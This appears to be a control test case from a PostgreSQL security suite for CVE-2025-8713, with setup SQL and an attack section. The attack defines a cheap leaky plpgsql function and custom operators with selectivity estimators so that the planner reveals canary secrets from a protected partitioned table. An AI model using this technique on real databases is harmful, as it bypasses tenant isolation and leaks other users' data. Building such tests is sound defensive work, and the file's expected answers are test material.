-- title: CVE-2025-8713: the same through the parent of partitions
-- class: cve-control
-- severity: -
-- kind: control
-- leaks: attack /CANARY_B/
-- answer: control: fixed in PostgreSQL 15.14

--@ setup
set role svc_owner;
create table app.p (id int, tenant_id text, secret text) partition by hash (id);
create table app.p0 partition of app.p for values with (modulus 1, remainder 0);
insert into app.p select g, 'B', 'CANARY_B' from generate_series(1, 200) g;
grant select on app.p to app;
reset role;
select t.protect('app.p');
analyze app.p;
create schema scratch;
grant usage, create on schema scratch to app;
--@ attack
:enter_a
create function scratch.lk(text, text) returns bool language plpgsql immutable cost 0.0001
  as $$ begin raise notice 'op saw % %', $1, $2; return true; end $$;
create operator scratch.<<< (leftarg = text, rightarg = text, function = scratch.lk,
                             restrict = scalarltsel);
create operator scratch.=== (leftarg = text, rightarg = text, function = scratch.lk, restrict = eqsel);
select * from app.p where secret operator(scratch.<<<) 'x' limit 0;
explain select * from app.p where secret operator(scratch.<<<) 'x';
explain select * from app.p where secret operator(scratch.===) 'x';
commit;
